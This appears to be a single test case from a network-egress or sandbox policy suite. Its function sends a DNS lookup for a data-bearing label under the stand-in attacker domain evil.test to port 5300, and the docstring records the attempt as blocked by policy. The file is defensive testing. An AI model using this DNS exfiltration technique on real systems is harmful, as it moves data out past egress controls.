# SPDX-License-Identifier: Apache-2.0
"""A server at another port.

recorded: 4=policy 6=policy
"""
from attack import attempt


def way(a):
    a.dns(f'{a.label}.evil.test', port=5300)


attempt(way)
